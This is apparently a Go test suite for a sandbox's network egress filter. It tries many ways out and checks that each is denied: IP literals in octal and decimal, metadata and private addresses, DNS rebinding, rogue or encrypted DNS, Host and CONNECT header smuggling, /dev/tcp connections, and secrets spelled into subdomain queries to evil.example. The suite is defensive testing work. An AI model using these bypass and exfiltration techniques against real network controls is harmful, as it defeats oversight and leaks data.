package egress

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os/exec"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// Scripts that try to get out say "reached" if they do.
const (
	tcpReach = `python3 -c 'import sys, socket
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 100)
s.sendall(b"GET / HTTP/1.0\r\n\r\n")
if b"hello" in s.recv(200): print("reached")' `
	udpReach = `python3 -c 'import sys, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(100); s.connect((sys.argv[1], int((sys.argv + ["443"])[2]))); s.send(b"x")
try: print({b"hello": "reached"}.get(s.recv(9)))
except ConnectionRefusedError: print("refused at once")' `
	udpAsk = `python3 - <<'X'
import socket, struct, sys
def name(n): return b"".join(bytes([len(l)]) + l.encode() for l in n.split(".")) + b"\0"
def ask(server, n, tcp=False):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name(n) + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(100); s.connect((server, 53))
    s.send(struct.pack(">H", len(q)) + q if tcp else q)
    r = s.recv(600)[2 if tcp else 0:]
    return r[3] & 15, r[-4:]
X
`
)

// bashTalk sends its input to a host and port and prints what comes back.
const bashTalk = `talk() { exec 3<>"/dev/tcp/$1/$2" && cat >&3 && timeout 100 cat <&3; }; `

// TestBypass tries one way out after another. Each is a script that says
// "reached"; outside it has to, or it would prove nothing.
func TestBypass(t *testing.T) {
	quic, err := net.ListenPacket("udp", "127.0.0.1:443")
	require.NoError(t, err)
	t.Cleanup(func() { quic.Close() })
	go func() {
		for buf := make([]byte, 9); ; {
			_, from, err := quic.ReadFrom(buf)
			if err != nil {
				return
			}
			_, _ = quic.WriteTo([]byte("hello"), from)
		}
	}()
	curl := func(args string) string {
		return "curl -sS -m 100 -g " + args + " 2>&1 | grep -q '^hello' && echo reached"
	}
	ask := func(server, name, tcp string) string {
		return strings.Replace(udpAsk, "\nX\n", fmt.Sprintf("\ncode, last = ask(%q, %q, %s)\nif code == 0 and last == bytes([140, 82, 112, 4]): print('reached')\nX\n", server, name, tcp), 1)
	}
	for _, c := range []struct {
		name    string
		script  string
		flags   []string
		control string // where the script cannot be its own
		denied  string // what the user is told
	}{
		{name: "address literal", script: curl("http://" + evil4), denied: evil4 + ":80 (to allow: --allow " + evil4 + ")"},
		{name: "address of an allowed host", script: curl("http://" + good4), denied: good4 + ":80"},
		{name: "IPv6 literal", script: curl("http://[" + evil6 + "]"), denied: evil6},
		{name: "mapped IPv6 literal", script: tcpReach + "::ffff:" + evil4 + " 80", denied: evil4},
		{name: "private address", script: curl("http://" + private4), denied: private4},
		{name: "metadata", script: curl("http://" + metadata4), denied: metadata4},
		{name: "another port of an allowed host", script: curl("http://good.example:8080/"), denied: "good.example:8080"},
		{name: "another port of an allowed address", script: tcpReach + good4 + " 8080", flags: []string{"--allow", good4 + ":80"}, denied: good4 + ":8080"},
		{name: "a name below an allowed one", script: curl("http://www.good.example/"), denied: "www.good.example"},
		{name: "another name server", script: ask(evil4, "evil.example", "False"), denied: "evil.example"},
		{name: "another name server, IPv6", script: ask(evil6, "evil.example", "False"), denied: "evil.example"},
		{name: "a name server by TCP", script: ask(evil4, "evil.example", "True"), denied: "evil.example"},
		{name: "DNS over TLS", script: "timeout 100 openssl s_client -connect " + evil4 + ":443 -servername evil.example </dev/null 2>&1 | grep -q 'CN *= *world' && echo reached", denied: evil4},
		{name: "DNS over HTTPS", script: curl("https://evil.example/dns-query?dns=AAAB"), denied: "evil.example"},
		{name: "a name that leads to a private address", script: curl("http://rebind.good.example"), flags: []string{"--allow", "*.good.example"}, denied: "rebind.good.example"},
		{name: "a name that leads to metadata", script: curl("http://meta.good.example"), flags: []string{"--allow", "*.good.example"}, denied: "meta.good.example"},
		{name: "a name that leads to a mapped private address", script: curl("http://mapped.good.example"), control: curl("http://" + private4), flags: []string{"--allow", "*.good.example"}},
		{name: "a name that leads to 198.18.0.0/15", script: curl("http://clash.good.example"), flags: []string{"--allow", "*.good.example"}, denied: "clash.good.example"},
		{name: "spelled in octal", script: curl("http://0214.0122.0160.04/"), control: curl("http://" + evil4), denied: ""},
		{name: "spelled as a number", script: curl("http://2354212868/"), control: curl("http://" + evil4), denied: ""},
		{name: "TLS for another host", script: curl("--connect-to evil.example:443:good.example:443 https://evil.example/"), denied: "good.example:443"},
		{name: "HTTP for another host", script: curl("-H 'Host: evil.example' http://good.example/"), denied: "good.example:80"},
		{name: "two Hosts", script: bashTalk + `printf 'GET / HTTP/1.0\r\nHost: good.example\r\nHost: evil.example\r\n\r\n' | talk good.example 80 | grep -q hello && echo reached`, control: curl("http://good.example")},
		{name: "the name in another header", script: bashTalk + `printf 'GET / HTTP/1.1\nHost: evil.example\nConnection: close\n\n' | talk good.example 80 | grep -q hello && echo reached`},
		{name: "a fake address that nobody has", script: tcpReach + "198.19.200.200 80", control: tcpReach + evil4 + " 80", denied: "198.19.200.200"},
		{name: "UDP to an address", script: udpReach + evil4, control: udpReach + "127.0.0.1", denied: evil4 + ":443"}, // the world carries no UDP but on its loopback
		{name: "UDP to an allowed host", script: udpReach + "good.example 123; " + udpReach + "good.example", control: udpReach + "127.0.0.1", denied: "good.example:123"},
		{name: "the data in names below an allowed one", script: ask("198.18.0.53", "c2VjcmV0.evil.example", "False"), control: ask(evil4, "evil.example", "False"), denied: "c2vjcmv0.evil.example"},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := newBench(t, append([]string{"--allow", "good.example"}, c.flags...)...)
			var out string
			_, reached := theWorld.since(func() { out, _ = b.inside(bare + c.script) })
			require.NotContains(t, out, "reached")
			if strings.HasPrefix(c.script, udpReach) {
				require.Contains(t, out, "refused at once", "so that QUIC falls back")
			}
			for _, r := range reached {
				require.Contains(t, []string{good4 + ":80", good4 + ":443", "[" + good6 + "]:80", "[" + good6 + "]:443"}, r, "nothing else was dialled")
			}
			if c.denied != "" {
				require.Contains(t, out, c.denied, "the user is told")
			}
			control := c.script
			if c.control != "" {
				control = c.control
			}
			out, _ = b.outside(control)
			require.Contains(t, out, "reached", "the control: outside it works")
		})
	}
}

// Servers that answer for whatever host they are asked for.
const (
	nodeServer   = `const s = require("http").createServer((q, r) => r.end("served " + q.headers.host + "\n")).listen(0, "127.0.0.1", () => console.log(s.address().port))`
	pythonServer = `import http.server, urllib.parse
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        host = urllib.parse.urlsplit(self.path).hostname or self.headers.get("Host")
        if self.command == "CONNECT": host = self.path.rsplit(":")[0]
        self.send_response(200); self.end_headers(); self.wfile.write(b"served %s\n" % host.encode())
    do_CONNECT = do_GET
s = http.server.HTTPServer(("127.0.0.1", 0), H); print(s.server_port, flush=True); s.serve_forever()`
)

// TestAnotherHost has requests for another host on a connection to an allowed one, in the
// forms that servers take. Outside they are answered, which is the control.
func TestAnotherHost(t *testing.T) {
	tried := 0
	for _, c := range []struct {
		server   []string
		requests []string
	}{
		{[]string{"node", "-e", nodeServer}, []string{`\r\nPROPFIND / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n`, `GET / HTTP/1.0\r\nHost: evil.example\r\n\r\n`}},
		{[]string{"python3", "-c", pythonServer}, []string{`CONNECT evil.example:81 HTTP/1.0\r\nHost: chatgpt.com\r\n\r\n`, `GET http://evil.example:81/ HTTP/1.0\r\nHost: chatgpt.com\r\n\r\n`}},
	} {
		if _, err := exec.LookPath(c.server[0]); err != nil {
			continue
		}
		tried++
		cmd := exec.Command(c.server[0], c.server[1:]...)
		out, err := cmd.StdoutPipe()
		require.NoError(t, err)
		start(t, cmd)
		t.Cleanup(func() {
			cmd.Process.Kill()
			cmd.Wait()
		})
		port, err := bufio.NewReader(out).ReadString('\n')
		require.NoError(t, err)
		theWorld.mu.Lock()
		theWorld.serve[agents4+":81"] = func(c net.Conn) {
			defer c.Close()
			s, err := net.Dial("tcp", "127.0.0.1:"+strings.TrimSpace(port))
			if err != nil {
				return
			}
			defer s.Close()
			go func() {
				if _, err := io.Copy(s, c); err != nil {
					s.Close()
				}
				s.(*net.TCPConn).CloseWrite()
			}()
			io.Copy(c, s)
		}
		theWorld.mu.Unlock()
		for _, request := range c.requests {
			script := bashTalk + `printf '` + request + `' | talk chatgpt.com 81`
			b := newBench(t, "--allow", "chatgpt.com:81")
			text, _ := b.inside(bare + script)
			require.NotContains(t, text, "served", request)
			require.Contains(t, text, "denied: chatgpt.com:81", request)
			text, _ = b.inside(bare + strings.ReplaceAll(script, "evil.example", "chatgpt.com"))
			require.Contains(t, text, "served", request)
			text, _ = b.outside(script)
			require.Contains(t, text, "served evil.example", "the control: %s", request)
		}
	}
	require.NotZero(t, tried)
}

// TestNamesUnderWildcard spells data out in names that a wildcard allows, and connects
// to each.
func TestNamesUnderWildcard(t *testing.T) {
	b := newBench(t, "--allow", "*.good.example", "--allow", "api.good.example")
	const script = bare + `curl -sS -m 100 http://www.good.example/; python3 - <<'X'
import socket
answers = {}
for i in range(400):
    s = socket.create_connection(("127.0.0.1", 3128), 100)
    s.sendall(b"CONNECT n%d.good.example:443 HTTP/1.1\r\n\r\n" % i)
    code = s.recv(12)[9:].decode(); s.close()
    answers[code] = answers.get(code, 0) + 1
print(sorted(answers.items()))
X
curl -sS -m 100 http://www.good.example/; curl -sS -m 100 http://api.good.example/`
	var out string
	asked, _ := theWorld.since(func() { out, _ = b.inside(script) })
	require.Contains(t, out, "[('403', 145), ('502', 255)]")
	require.Equal(t, 2, strings.Count(out, "hello www.good.example from"), "a name that was resolved before is resolved again")
	require.Contains(t, out, "hello api.good.example from", "and so is one that a rule names")
	require.Contains(t, out, "denied: n255.good.example:443 (to allow: --allow n255.good.example)")
	require.Len(t, asked, 257)
	out, _ = newBench(t, "--allow", "*.good.example", "--allow", "api.good.example", "--allow", "n255.good.example").inside(script)
	require.Contains(t, out, "[('403', 144), ('502', 256)]", "following the hint for one more name")
	asked, _ = theWorld.since(func() {
		b.outside(`python3 -c 'import socket
for i in range(400):
    try: socket.getaddrinfo("n%d.good.example" % i, 443)
    except OSError: pass'`)
	})
	require.Len(t, asked, 400, "the control: outside each is asked for")
}

// TestLongPath: a request is told of, however long its path is.
func TestLongPath(t *testing.T) {
	b := newBench(t, "--allow", "GET https://good.example/ok")
	for _, length := range []string{"100", "62000"} {
		out, _ := b.inside(`curl -sS -m 100 -o /dev/null -w '%{http_code}\n' https://good.example/$(printf '%*s' ` + length + ` | tr ' ' a)`)
		require.Contains(t, out, "403")
		require.Contains(t, out, "denied: request GET https://good.example/aaaa", length)
	}
}

// TestSilentHost: a host that says nothing, and takes the end of what it is sent for
// none, keeps no run from its end.
func TestSilentHost(t *testing.T) {
	over := make(chan struct{})
	t.Cleanup(func() { close(over) })
	theWorld.mu.Lock()
	theWorld.serve[agents4+":82"] = func(c net.Conn) {
		defer c.Close()
		<-over
	}
	theWorld.mu.Unlock()
	b := newBench(t, "--allow", "chatgpt.com:82")
	for _, sent := range []string{"echo x", "head -c 30000000 /dev/zero"} {
		out, code := b.inside(bare + sent + ` | timeout 2 bash -c 'exec 3<>/dev/tcp/chatgpt.com/82; cat >&3'; echo done`)
		require.Contains(t, out, "done")
		require.Zero(t, code)
	}
}

// TestQuestions holds that the host asks for no name but those that somebody
// connects to, and for nothing but addresses.
func TestQuestions(t *testing.T) {
	b := newBench(t, "--allow", "*.good.example", "--allow", "good.example")
	script := bare + `for i in $(seq 20); do getent hosts secret$i.good.example; done >/dev/null; ! command -v busybox >/dev/null || { busybox nslookup -type=txt api.good.example; busybox nslookup -type=mx evil.example; } >/dev/null 2>&1; curl -sS -m 100 http://good.example/`
	var out string
	asked, _ := theWorld.since(func() { out, _ = b.inside(script) })
	require.Contains(t, out, "hello good.example")
	require.Equal(t, []string{"good.example."}, asked)
	asked, _ = theWorld.since(func() { b.outside(script) })
	require.Contains(t, asked, "secret7.good.example.", "the control: outside each is asked for")
}

// TestNothingAllowed has no network at all.
func TestNothingAllowed(t *testing.T) {
	b := newBench(t)
	var out string
	asked, reached := theWorld.since(func() {
		out, _ = b.inside("curl -sS -m 100 http://" + evil4 + "; curl -sS -m 100 http://good.example; cat /proc/net/route | wc -l; ls /sys/class/net")
	})
	require.Contains(t, out, "curl: (7)")
	require.Contains(t, out, "curl: (6)")
	require.Contains(t, out, "\n1\nlo\n")
	require.Empty(t, asked)
	require.Empty(t, reached)
}

// TestNothingAllowedIsTold: where there is no network at all, a name that is looked up
// is no host's, for every resolver and in its own words, and told of with what would allow it.
// Nobody outside is asked, and nothing listens inside.
func TestNothingAllowedIsTold(t *testing.T) {
	const good, evil = "pccrun: denied: resolve ", " (to allow: --allow "
	for _, c := range []struct {
		name, script string
		told         string
	}{
		{"curl", "curl -sS -m 100 https://www.good.example; [ $? = 6 ]", "www.good.example"},
		{"both families", "timeout 100 getent ahosts a.good.example; [ $? = 2 ]", "a.good.example"},
		{"IPv4", "curl -4 -sS -m 100 https://b.good.example; [ $? = 6 ]", "b.good.example"},
		{"IPv6", "curl -6 -sS -m 100 https://c.good.example; [ $? = 6 ]", "c.good.example"},
		{"a resolver of its own", "type -p busybox || exit 0; busybox nslookup d.good.example 2>&1 | grep NXDOMAIN", "d.good.example"},
		{"node's own resolver", `type -p node || exit 0; node -e 'require("dns").resolve4("e.good.example", e => process.exit(e?.code === "ENOTFOUND" ? 0 : 1))'`, "e.good.example"},
		{"Go's own resolver", "$FETCH http://f.good.example 2>&1 | grep 'no such host'", "f.good.example"},
		{"with python", `type -p python3 || exit 0; python3 -c 'import socket
try: socket.getaddrinfo("g.good.example", 443)
except socket.gaierror as e: assert e.errno == socket.EAI_NONAME, e'`, "g.good.example"},
		{"an answer to a question that is no name's", `exec 3<>/dev/udp/127.0.0.1/53; printf '\x00\x07\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05a\x1b[31\x07example\x00\x00\x01\x00\x01' >&3; head -c 1 <&3`, `a\x1b[31.example`},
		{"TCP", "! (exec 3<>/dev/tcp/127.0.0.1/53) 2> /dev/null", ""},
		{"another resolver", "! (exec 3<>/dev/udp/" + evil4 + "/53) 2> /dev/null", ""},
		{"the proxy", "! (exec 3<>/dev/tcp/127.0.0.1/3128) 2> /dev/null && ! env | grep -i '^[a-z]*_proxy='", ""},
		{"localhost", "getent hosts localhost && getent hosts pccrun && getent ahosts pccrun && { getent ahostsv6 pccrun || :; }", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := newBench(t)
			var out string
			var code int
			const patient = "export RES_OPTIONS='timeout:30 attempts:5'; " // longer than who asks: it says so then, and not that there is none
			asked, reached := theWorld.since(func() { out, code = b.inside(patient + c.script) })
			require.Zero(t, code, out)
			require.Empty(t, asked)
			require.Empty(t, reached)
			switch {
			case c.told == "":
				require.NotContains(t, out, "denied:")
			case strings.Contains(c.told, "x1b"):
				require.Contains(t, out, "denied: resolve "+c.told)
				require.NotContains(t, out, "\x1b")
			case code == 0 && strings.Contains(c.script, "exit 0") && !strings.Contains(out, "denied:"):
				t.Skip("needs what it runs")
			default:
				require.Contains(t, out, good+c.told)
				require.Contains(t, out, evil+c.told+")\n")
			}
		})
	}
	control := newBench(t, "--without", "netns")
	var out string
	asked, _ := theWorld.since(func() { out, _ = control.inside("curl -sS -m 100 http://good.example") })
	require.NotContains(t, out, "denied:")
	require.Contains(t, asked, "good.example.", "the control: with the host's network it is asked for")
}

// TestNothingAllowedFloods: who makes up names is told of no more than where a proxy
// runs, and the run goes on.
func TestNothingAllowedFloods(t *testing.T) {
	b := newBench(t)
	out, code := b.inside(`for i in $(seq 3000); do printf '\x00\x07\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05%05d\x07example\x00\x00\x01\x00\x01' $i > /dev/udp/127.0.0.1/53; done
! getent hosts last.example; while n=$(wc -l < $PCCRUN_DENIALS); [ "$n" -le 10 ] || [ "$n" != "$m" ]; do m=$n; sleep 0.05; done; echo "told $n"`)
	require.Zero(t, code, out)
	var told int
	_, rest, _ := strings.Cut(out, "told ")
	_, err := fmt.Sscan(rest, &told)
	require.NoError(t, err, out)
	require.Greater(t, told, 10, "the control: it is told of")
	require.LessOrEqual(t, told, 1024)
}
